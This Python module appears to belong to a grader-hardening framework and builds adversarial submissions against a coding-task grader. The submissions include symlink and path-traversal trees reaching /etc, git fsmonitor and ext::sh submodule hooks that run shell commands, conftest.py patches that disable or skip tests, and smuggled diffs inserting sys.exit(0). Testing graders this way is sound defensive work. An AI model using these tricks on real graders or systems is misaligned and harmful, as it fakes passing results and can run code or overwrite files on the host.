"""Attacks by the tree that comes back: links, devices, names that climb, fold or read like a patch; git's own files."""

from __future__ import annotations

import unicodedata

from taskgen.attacks.adapt import file, folder_of, left_behind, main_path, test_modules, tests_folder, tests_with_bodies
from taskgen.attacks.attack import Group, Item, Kind, Submission, Target

GROUP = Group("channel")


@GROUP.attack(62)
def hostile_tree(target: Target) -> Submission | None:
    """links, devices, pipes and paths that climb out: whoever unpacks the tree writes and reads where it says"""
    module = (test_modules(target) or ["tests/test_x.py"])[0]
    return left_behind(
        target,
        Item(path="out", kind=Kind.SYMLINK, target="/"),
        file("out/tmp/zz_through_link", "written through a link\n"),
        Item(path=f"{folder_of(main_path(target))}host", kind=Kind.SYMLINK, target="../../../../../../etc"),
        Item(path="passwd", kind=Kind.HARDLINK, target="/etc/passwd"),
        Item(path="disk", kind=Kind.DEVICE, target="8:0"),
        Item(path="pipe.py", kind=Kind.FIFO),
        Item(path="socket", kind=Kind.SOCKET),
        file("../zz_climbed", "written above the tree\n"),
        file(f"{folder_of(main_path(target))}../../../../tmp/zz_climbed", "written above the tree\n"),
        file("/tmp/zz_absolute", "written at an absolute path\n"),
        file(f"./{module}", "def test_nothing():\n    pass\n"),
        file(f"zz//../{module}", "def test_nothing():\n    pass\n"),
    )


@GROUP.attack(68)
def path_tricks(target: Target) -> Submission | None:
    """names that look, fold or normalise to those of the tests pass a list of forbidden paths"""
    items = []
    for emptied in tests_with_bodies(target, ["pass"])[:3]:
        head, name = folder_of(emptied.path), emptied.path.rpartition("/")[2]
        odd = unicodedata.normalize("NFKD", name).replace("t", "\uff54", 1)
        spelled = (
            head.upper() + name,
            head.title() + name.title(),
            head + odd,
            head + name + " ",
            head + name + ".",
            head + name.replace("e", "e\u200d", 1),
            head.rstrip("/") + "\u2215" + name,
            head.replace("/", "\\") + name,
            head + name + "\0.txt",
            head + "\u202e" + name,
            head + name + "::$DATA",
        )
        items += [file(path, emptied.content) for path in spelled if path != emptied.path]
    hooks = (".GIT/config", "git~1/config", ".g\u200cit/config", ".git./config", ".git /config", ".\u0131git/config")
    items += [file(path, '[core]\n\tfsmonitor = "sh .zz_hook"\n') for path in hooks]
    items += [
        file(name, "collect_ignore_glob = ['*']\n") for name in ("CONFTEST.py", "conftest.py\u200b", "Conftest.PY")
    ]
    return left_behind(target, *items)


@GROUP.attack(128)
def git_attributes(target: Target) -> Submission | None:
    """attributes and ignore files decide what a diff shows, what an archive holds, and what bytes a checkout writes"""
    folder = tests_folder(target) or "*"
    attributes = f"{folder}** -diff merge=ours export-ignore\n*.py -diff working-tree-encoding=UTF-16 eol=crlf\n"
    ignore = f"{folder}\n*.pyc\nconftest.py\npytest.ini\n"
    nested = f"{folder_of(main_path(target)) or 'docs/'}.gitattributes"
    return left_behind(
        target,
        file(".gitattributes", attributes),
        file(nested, "* -diff export-ignore ident\n"),
        file(".gitignore", ignore),
        file("conftest.py", "import _pytest.python\n\n_pytest.python.Function.runtest = lambda self: None\n"),
        script="git config core.attributesFile .gitattributes; git update-index --assume-unchanged conftest.py; true\n",
    )


@GROUP.attack(129)
def nested_repository(target: Target) -> Submission | None:
    """a submodule or a repository in the tree is one entry to git, and whatever its owner likes on disk"""
    folder = (tests_folder(target) or "tests/").rstrip("/")
    modules = f'[submodule "zz"]\n\tpath = {folder}\n\turl = ext::sh -c "sh .zz_hook"\n'
    return left_behind(
        target,
        Item(path=folder, kind=Kind.GITLINK, target="0123456789abcdef0123456789abcdef01234567"),
        file(".gitmodules", modules),
        file("vendor/.git/HEAD", "ref: refs/heads/main\n"),
        file("vendor/.git/config", '[core]\n\tfsmonitor = "sh ../.zz_hook"\n'),
        file("vendor/conftest.py", "collect_ignore_glob = ['*']\n"),
    )


@GROUP.attack(132)
def many_files(target: Target) -> Submission | None:
    """thousands of files, names as long as may be and folders as deep as may be break the tools of a grader"""
    many = [file(f"zz/{i % 50}/{i}.txt", "") for i in range(5000)]
    deep = [file("/".join(["d"] * 400) + "/x.py", ""), file("n" * 255, ""), file("n" * 300 + ".py", "")]
    return left_behind(target, *many, *deep)


@GROUP.attack(133)
def patch_in_patch(target: Target) -> Submission | None:
    """names and contents that look like lines of a diff smuggle a second patch past whoever splits texts"""
    module = (test_modules(target) or ["tests/test_x.py"])[0]
    inner = f"--- a/{module}\n+++ b/{module}\n@@ -1,1 +1,1 @@\n-import pytest\n+import sys; sys.exit(0)\n"
    return left_behind(
        target,
        file("notes.txt", f"diff --git a/{module} b/{module}\n{inner}"),
        file(f"x b\n+++ b/{module}", "pass\n"),
        file(f"x\ndiff --git a/{module} b/{module}", "pass\n"),
        file(f'"quoted" b/{module}', "pass\n"),
        file("series.patch", f"From 0123456 Mon Sep 17 00:00:00 2001\nSubject: [PATCH]\n\n---\n{inner}--\n2.40\n"),
    )


@GROUP.attack(134)
def written_through_own_link(target: Target) -> Submission | None:
    """a link first, a file below it next: an unpacker that follows writes into the tests' folder"""
    folder = (tests_folder(target) or ".").rstrip("/")
    emptied = tests_with_bodies(target, ["pass"])
    inside = [file(f"zz_link/{item.path.rpartition('/')[2]}", item.content) for item in emptied]
    twice = [Item(path="zz_twice", kind=Kind.SYMLINK, target=folder), file("zz_twice", "a file after a link\n")]
    return left_behind(target, Item(path="zz_link", kind=Kind.SYMLINK, target=folder), *inside, *twice)
